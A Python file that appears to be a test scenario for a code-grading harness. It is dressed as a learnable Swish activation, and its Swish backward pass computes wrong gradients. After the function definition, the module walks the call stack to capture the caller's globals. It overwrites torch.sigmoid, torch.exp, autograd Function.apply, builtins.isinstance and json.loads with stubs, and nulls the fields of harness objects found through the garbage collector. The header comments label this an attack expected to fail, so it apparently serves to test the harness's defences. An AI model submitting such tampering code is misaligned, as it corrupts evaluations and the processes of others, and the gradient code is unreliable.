# scenario: learnable-swish
# core: A, B
# attack: changes everything that the next candidate might inherit
# expected: failed
# trace: (loads|forward): 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import sys


def server():
    """Globals of whoever called the import."""
    frame = sys._getframe()
    while frame is not None:
        if "ASKS" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    return {}

import builtins, gc, json, os
g = server()
class Poison(torch.autograd.Function):
    pass
torch.sigmoid = torch.exp = torch.autograd.Function.apply = lambda *a, **k: torch.zeros(())
builtins.isinstance = lambda *a: True
json.loads = lambda *a, **k: {}
os.environ["OMP_NUM_THREADS"] = "64"
torch.manual_seed(666)
for thing in gc.get_objects():
    if type(thing).__name__ in ("Zygote", "Settings", "Layers"):
        for name in list(getattr(thing, "__dict__", {})):
            try:
                object.__setattr__(thing, name, None)
            except Exception:
                pass
